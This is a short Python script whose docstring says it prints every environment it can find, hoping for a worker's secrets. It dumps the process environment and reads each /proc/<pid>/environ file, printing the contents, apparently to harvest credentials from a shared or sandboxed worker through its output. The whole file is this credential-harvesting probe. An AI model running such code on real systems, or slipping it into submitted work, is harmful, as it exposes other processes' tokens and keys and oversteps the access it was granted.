"""Prints every environment it can find, hoping for the worker's secrets."""

import os
from pathlib import Path

print(dict(os.environ))
for environ in sorted(Path("/proc").glob("[0-9]*/environ")):
    try:
        print(environ, environ.read_bytes().replace(b"\0", b"\n").decode(errors="replace"))
    except OSError as error:
        print(environ, error)
